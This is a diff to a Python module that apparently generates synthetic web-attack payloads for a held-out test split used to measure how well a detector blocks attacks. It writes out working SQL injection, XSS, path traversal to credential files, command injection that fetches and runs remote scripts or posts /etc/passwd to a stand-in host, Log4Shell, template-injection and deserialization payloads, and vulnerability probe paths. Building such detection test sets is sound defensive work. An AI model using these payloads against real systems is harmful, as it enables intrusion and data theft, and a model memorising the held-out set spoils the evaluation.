@@ -15,7 +15,7 @@ import random
 from collections.abc import Callable
 from dataclasses import dataclass
 
-from models.data.sources import Split, assign
+from models.data.sources import EXAM, Split, assign
 
 ATTACK_KINDS = ("sqli", "xss", "traversal", "cmdi", "probe", "other")
 
@@ -404,13 +404,146 @@ def _assign(items: tuple[Production, ...]) -> dict[str, tuple[Production, ...]]:
 _SIDES = _assign(PRODUCTIONS)
 
 
+# ---------------------------------------------------------------------------- the second exam
+#
+# The exam's own attacks (``sources.EXAM``): productions and probe families written for it alone, in the families the
+# sides share plus a few they never met (OGNL and EL expressions, argument injection, the appliance and AI-tool probes),
+# so that "attacks blocked" there measures attacks written in ways no side was drawn from.
+
+def _exam_file(rng: random.Random) -> str:
+    return rng.choice(("var/run/secrets/kubernetes.io/serviceaccount/token", "root/.aws/credentials", "home/app/.bash_history",
+                       "app/config/database.yml", "etc/ssl/private/server.key", "proc/1/environ", "inetpub/logs/LogFiles/W3SVC1/u_ex250101.log",
+                       "usr/local/etc/php/php.ini", "opt/tomcat/conf/tomcat-users.xml", "etc/mysql/my.cnf"))
+
+
+EXAM_PRODUCTIONS: tuple[Production, ...] = (
+    # SQL: JSON and SQLite functions, conditionals, injected sort keys, Oracle packages
+    Production("sqli.json_functions", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'and')} json_extract((select json_group_array(password) from users),'$[0]') like 'a%'--",
+                                                                   f"{_n(r)}'||(select string_agg(usename||':'||passwd,',') from pg_shadow)||'",
+                                                                   f"{_n(r)}' {_kw(r, 'and')} (select json_agg(t) from {_tbl(r)} t)::text like '%admin%'--",
+                                                                   f"{_n(r)}' {_kw(r, 'and')} JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))--"))),
+    Production("sqli.sqlite", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} sql,{','.join(['NULL'] * r.randint(0, 3)) or 'NULL'} {_kw(r, 'from')} sqlite_master--",
+                                                          f"{_n(r)}' {_kw(r, 'and')} 1=like('ABCDEFG',upper(hex(randomblob({r.randint(1, 5)}00000000/2))))--",
+                                                          f"{_n(r)}' {_kw(r, 'and')} sqlite_version()>'3'--", f"{_n(r)}';attach database '/var/www/lol.php' as lol;--"))),
+    Production("sqli.conditional", "sqli", lambda r: r.choice((f"{_n(r)} {_kw(r, 'and')} if(1=1,sleep({r.randint(3, 9)}),0)", f"{_n(r)} {_kw(r, 'and')} case when (1=1) then 1 else 1/0 end=1",
+                                                               f"(select case when (substr(current_user,1,1)='{r.choice('aprs')}') then pg_sleep({r.randint(3, 9)}) else pg_sleep(0) end)",
+                                                               f"{_n(r)}' {_kw(r, 'and')} iif(1=1,1,1/0)=1--"))),
+    Production("sqli.sort_key", "sqli", lambda r: r.choice(("(case when (select 1)=1 then name else price end)", f"name,(select 1 from (select sleep({r.randint(3, 9)}))x)",
+                                                            "if((select count(*) from users)>0,id,name)", "(select 1 from dual where 1=1 and extractvalue(1,concat(0x7e,database())))",
+                                                            f"price {_kw(r, 'desc')},(select*from(select(sleep({r.randint(3, 9)})))a)"))),
+    Production("sqli.oracle", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} banner,NULL {_kw(r, 'from')} v$version--",
+                                                          f"{_n(r)}' {_kw(r, 'and')} 1=utl_inaddr.get_host_name((select user from dual))--",
+                                                          f"{_n(r)}'||(select dbms_xmlgen.getxml('select user from dual') from dual)||'",
+                                                          f"{_n(r)}' {_kw(r, 'and')} 1=ctxsys.drithsx.sn(1,(select user from dual))--"))),
+    # XSS: animation and pointer events, mutation and namespace confusion, module imports, JS string breaks
+    Production("xss.svg_animation", "xss", lambda r: r.choice((f"<svg><animate onbegin={_jsfn(r)} attributeName=x dur=1s>", f"<svg><set attributeName=href onbegin={_jsfn(r)}>",
+                                                               f"<svg><animatetransform onbegin={_jsfn(r)}>", f"<svg><discard onbegin={_jsfn(r)}>"))),
+    Production("xss.pointer_events", "xss", lambda r: r.choice((f"<x onpointerover={_jsfn(r)}>hover me", f"<a autofocus tabindex=1 onfocusin={_jsfn(r)}>",
+                                                                f"<style onload={_jsfn(r)}></style>", f"<audio src onloadstart={_jsfn(r)}>",
+                                                                f"<xss oncontentvisibilityautostatechange={_jsfn(r)} style=display:block;content-visibility:auto>",
+                                                                f"<body onpageshow={_jsfn(r)}>", f"<div onanimationstart={_jsfn(r)} style=animation-name:x>"))),
+    Production("xss.mutation", "xss", lambda r: r.choice(("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+                                                          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"))),
+    Production("xss.module_import", "xss", lambda r: r.choice((f"<script type=module>import('//{_host(r)}/m.js')</script>", f"<script>import('//{_host(r)}/x')</script>",
+                                                               f"<link rel=modulepreload href=//{_host(r)}/p.js>", f"<script src=data:,{_jsfn(r)}></script>"))),
+    Production("xss.js_string", "xss", lambda r: r.choice((f"\\u0027-{_jsfn(r)}-\\u0027", f"\"-{_jsfn(r)}-\"", f"'-{_jsfn(r)}-'", f"</ScRiPt ><ScRiPt >{_jsfn(r)}</ScRiPt >",
+                                                           f"\\\";{_jsfn(r)};//", f"${{{_jsfn(r)}}}"))),
+    # traversal: Tomcat path parameters, full-width dots, encoded backslashes, container and cloud files
+    Production("trav.path_parameter", "traversal", lambda r: r.choice((f"{'..;/' * r.randint(2, 6)}{r.choice(('WEB-INF/web.xml', 'manager/html', 'admin/', _exam_file(r)))}",
+                                                                       f"/;/{'../' * r.randint(2, 5)}{_exam_file(r)}", f"/static/..;/..;/{r.choice(('WEB-INF/web.xml', 'META-INF/MANIFEST.MF'))}")), ("query", "path")),
+    Production("trav.fullwidth", "traversal", lambda r: f"{'%ef%bc%8e%ef%bc%8e%ef%bc%8f' * r.randint(3, 7)}{_exam_file(r)}", ("query", "path")),
+    Production("trav.encoded_backslash", "traversal", lambda r: f"{r.choice(('..%5c', '%2e%2e%5c', '..%255c', '.%2e%5c')) * r.randint(3, 8)}{_exam_file(r).replace('/', '%5c')}", ("query", "path", "form")),
+    Production("trav.secrets", "traversal", lambda r: f"{r.choice(('../', '..//', '.././')) * r.randint(3, 9)}{_exam_file(r)}"),
+    # commands: container escapes, argument injection, variable tricks, Windows living-off-the-land
+    Production("cmdi.container", "cmdi", lambda r: _inject(r, r.choice(("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
+                                                                        "kubectl get secrets -A -o yaml", "cat /proc/1/cgroup", "mount | grep overlay", "env | grep -i aws_")))),
+    Production("cmdi.argument", "cmdi", lambda r: r.choice(("--output=/var/www/html/x.php", f"-oProxyCommand=curl {_host(r)}|sh", "--upload-pack=touch /tmp/pwned",
+                                                            f"-X POST --data-binary @/etc/passwd http://{_host(r)}/", "--exec=id", "-e /bin/sh", f"--config=http://{_host(r)}/a.cfg",
+                                                            "--checkpoint=1 --checkpoint-action=exec=sh x.sh")), ("query", "form", "json")),
+    Production("cmdi.variables", "cmdi", lambda r: r.choice((";${PATH:0:1}bin${PATH:0:1}cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd", ";a=c;b=at;$a$b /etc/passwd", ";printf '\\x69\\x64'|sh",
+                                                             "|${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id", ";$(printf 'wh%sami' o)", "`{echo,aWQ=}|{base64,-d}|sh`"))),
+    Production("cmdi.lolbins", "cmdi", lambda r: _inject(r, r.choice((f"curl.exe -o %TEMP%\\a.exe http://{_host(r)}/a", "wmic process call create \"cmd /c calc\"",
+                                                                      "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", f"rundll32 url.dll,FileProtocolHandler http://{_host(r)}/x",
+                                                                      f"msiexec /q /i http://{_host(r)}/p.msi", "reg save HKLM\\SAM %TEMP%\\s")))),
+    # others: Java EL and OGNL, Thymeleaf, Mako and Tornado templates, Log4Shell spellings, SOAP XXE, cloud SSRF, NoSQL operators, EJS pollution, pickles
+    Production("el.ognl", "other", lambda r: r.choice(("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
+                                                      "${@java.lang.Runtime@getRuntime().exec('id')}", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+                                                      "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}"))),
+    Production("ssti.thymeleaf", "other", lambda r: r.choice(("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::x",
+                                                              "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
+                                                              "[[${T(java.lang.System).getenv()}]]"))),
+    Production("ssti.mako", "other", lambda r: r.choice(("${self.module.cache.util.os.system('id')}", "<%import os%>${os.popen('id').read()}", "{% import os %}{{os.popen('id').read()}}",
+                                                         "${__import__('subprocess').check_output('id')}", "{{handler.settings}}"))),
+    Production("jndi.spelled", "other", lambda r: r.choice((f"${{jndi:ldap://${{env:USER}}.{_host(r)}/a}}", f"${{${{upper:j}}${{upper:n}}di:ldap://{_host(r)}/u}}",
+                                                            f"${{jndi:dns://${{sys:java.version}}.{_host(r)}}}", f"${{${{date:'j'}}${{date:'n'}}di:rmi://{_host(r)}/d}}",
+                                                            f"${{jn${{lower:D}}i:ldap${{lower:S}}://{_host(r)}:636/s}}"))),
+    Production("xxe.soap", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY {r.choice(('x', 'f', 'doc'))} SYSTEM \"{r.choice(('file:///' + _exam_file(r), 'http://' + _host(r) + '/s'))}\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getUser><id>&{r.choice(('x', 'f', 'doc'))};</id></getUser></soap:Body></soap:Envelope>", ("xml",)),
+    Production("xxe.svg", "other", lambda r: f"<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///{_exam_file(r)}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>", ("xml",)),
+    Production("ssrf.cloud_v2", "other", lambda r: r.choice(("http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.169.254/latest/api/token", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
+                                                             "http://127.0.0.1:9200/_cat/indices", "http://localhost:5984/_all_dbs", "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/",
+                                                             "http://127.0.0.1:10255/pods", "http://localhost:8080/actuator/env"))),
+    Production("nosql.operators", "other", lambda r: r.choice(('{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}', "username[$nin][]=admin",
+                                                               "'||'1'=='1", '{"$or":[{},{"a":"a"}]}', "password[$exists]=true", '{"$where":"this.password.match(/^a/)"}')), ("query", "form", "json")),
+    Production("proto.gadget", "other", lambda r: r.choice(("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x", "constructor[prototype][sourceURL]=\\u2028\\u2029alert(1)",
+                                                            '{"__proto__":{"client":true,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')"}}',
+                                                            "__proto__[NODE_OPTIONS]=--require /proc/self/environ")), ("query", "form", "json")),
+    Production("deser.pickle", "other", lambda r: r.choice(("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "cos\nsystem\n(S'id'\ntR.", "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
+                                                            "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==",
+                                                            "gASVLAAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwQX19pbXBvcnRfXygnb3MnKZSFlFKULg=="))),
+)
+
+# The exam's probe families: what scanners hunt that the families above do not name (AI and ML tools, collaboration,
+# file-transfer and edge appliances' recent holes, WordPress plugins, JavaScript frameworks' dev endpoints, cloud-native
+# control planes). ``probe_paths`` drops any that one of ``PROBE_PATHS`` also has.
+EXAM_PROBE_PATHS = (
+    ("probe.ai_tools", ("/ollama/api/tags", "/gradio_api/info", "/ComfyUI/view?filename=../../etc/passwd", "/comfyui/system_stats", "/api/v1/validate/code",
+                        "/ajax-api/2.0/mlflow/experiments/search", "/jupyter/api/kernels", "/lab?token=", "/openai/deployments/", "/sdapi/v1/options",
+                        "/file=/etc/passwd", "/api/experimental/dags", "/webui/api/v1/auths/signup", "/litellm/health", "/ray/api/jobs/",
+                        "/tensorboard/data/plugins_listing", "/kubeflow/pipeline/apis/v1beta1/pipelines", "/langflow/api/v1/auto_login",
+                        "/anythingllm/api/system/accept-privacy", "/invokeai/api/v1/app/version")),
+    ("probe.edge", ("/clients/MyCRL", "/php/utils/debug.php", "/global-protect/portal/css/login.css/../../../../../../var/appweb/sslvpndocs/global-protect/portal/",
+                    "/api/v1/configuration/users/user-roles/user-role/rest-userrole1/web/web-bookmarks/bookmark", "/dana-ws/namedusers",
+                    "/api/v1/cav/client/status/../../admin/options", "/mifs/aad/api/v2/authorized/users", "/oauth/idp/.well-known/openid-configuration",
+                    "/p/u/doAuthentication.do", "/api/v2/cmdb/system/admin", "/remote/hostcheck_validate", "/webconsole/webpages/login.jsp",
+                    "/%25/webui/", "/sslvpn_logon.shtml", "/api/v1/totp/user-backup-code/../../license/keys-status/",
+                    "/cgi-bin/fgt_lang", "/dana-cached/hc/HostCheckerInstaller.osx")),
+    ("probe.collab", ("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "/_vti_bin/client.svc/ProcessQuery", "/_vti_pvt/service.pwd",
+                      "/Telerik.Web.UI.WebResource.axd?type=rau", "/ReportServer/Pages/ReportViewer.aspx", "/rest/api/2/serverInfo",
+                      "/secure/ContactAdministrators!default.jspa", "/pages/doenterpagevariables.action", "/plugins/servlet/oauth/users/icon-uri",
+                      "/rest/tinymce/1/macro/preview", "/template/aui/text-inline.vm", "/s/x/_/;/WEB-INF/web.xml", "/server-info.action",
+                      "/plugins/servlet/gadgets/makeRequest?url=http://127.0.0.1:8080", "/secure/QueryComponent!Default.jspa", "/setup/setupadministrator.action",
+                      "/json/setupadministrator.action", "/_layouts/15/start.aspx", "/owa/auth/logon.aspx?replaceCurrent=1&url=")),
+    ("probe.file_transfer", ("/moveitisapi/moveitisapi.dll?action=m2", "/human.aspx", "/guestaccess.aspx", "/WebInterface/function/", "/WebInterface/login.html",
+                             "/goanywhere/lic/accept", "/goanywhere/images/../wizard/InitialAccountSetup.xhtml", "/sfm/login.jsp", "/SetupWizard.aspx/",
+                             "/api/v1/users/me/../../../sys/info", "/Files/../../../../windows/win.ini", "/cgi-bin/filemanager/utilRequest.cgi",
+                             "/ServletModule/login", "/sws/app/gui/login")),
+    ("probe.wp_plugins", ("/wp-content/plugins/elementor/readme.txt", "/wp-content/plugins/litespeed-cache/readme.txt", "/wp-content/plugins/wp-automatic/inc/csv.php",
+                          "/wp-content/plugins/really-simple-ssl/readme.txt", "/wp-content/plugins/forminator/readme.txt", "/wp-content/plugins/ultimate-member/readme.txt",
+                          "/wp-content/plugins/backup-backup/includes/backup-heart.php", "/wp-content/plugins/woocommerce-payments/readme.txt",
+                          "/wp-json/litespeed/v1/cdn_status", "/wp-content/plugins/essential-addons-for-elementor-lite/readme.txt", "/wp-content/themes/bricks/readme.txt",
+                          "/wp-admin/admin-ajax.php?action=bricks_save_post", "/wp-json/wp-abilities/v1/manifest", "/wp-content/plugins/post-smtp/readme.txt",
+                          "/wp-json/post-smtp/v1/connect-app", "/wp-content/plugins/gutenkit-blocks-addon/readme.txt", "/wp-json/gutenkit/v1/install-active-plugin")),
+    ("probe.js_apps", ("/_next/image?url=http://169.254.169.254/latest/meta-data/&w=64&q=75", "/__nextjs_original-stack-frame?isServer=true&file=/etc/passwd",
+                       "/_next/static/../../../../etc/passwd", "/api/__coverage__", "/_nuxt/@fs/etc/passwd", "/.next/server/pages-manifest.json",
+                       "/.nuxt/dist/server/client.manifest.json", "/@id/__x00__/etc/passwd", "/__vite_ping", "/_astro/../../../../etc/passwd",
+                       "/.output/server/index.mjs", "/remix/build/version", "/_app/env.json", "/__nextjs_source-map?filename=/etc/passwd")),
+    ("probe.cloud_native", ("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/api/v1/namespaces/kube-system/configmaps", "/debug/pprof/goroutine?debug=2",
+                            "/v1/agent/members", "/api/v1/applications?fields=items.spec", "/api/v1/label/__name__/values", "/v1/sys/seal-status",
+                            "/v1/secret/data/prod", "/argo-cd/api/version", "/apis/argoproj.io/v1alpha1/workflows", "/metrics/cadvisor", "/configz")),
+)
+
+
 def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]:
-    """Payload productions of one split (and kind)."""
-    return tuple(p for p in _SIDES[split] if kind is None or p.kind == kind)
+    """Payload productions of one split (and kind), or the exam's own."""
+    pool = EXAM_PRODUCTIONS if split == EXAM else _SIDES[split]
+    return tuple(p for p in pool if kind is None or p.kind == kind)
 
 
 def probe_paths(split: Split) -> tuple[str, ...]:
-    """Scanner probe paths of one side (held out path by path within each family)."""
+    """Scanner probe paths of one side (held out path by path within each family), or the exam's own."""
+    if split == EXAM:
+        known = {p for _, paths in PROBE_PATHS for p in paths}
+        return tuple(p for _, paths in EXAM_PROBE_PATHS for p in paths if p not in known)
     out: list[str] = []
     for name, paths in PROBE_PATHS:
         out += assign(list(paths), "probe", lambda p, n=name: f"{n}:{p}")[split]
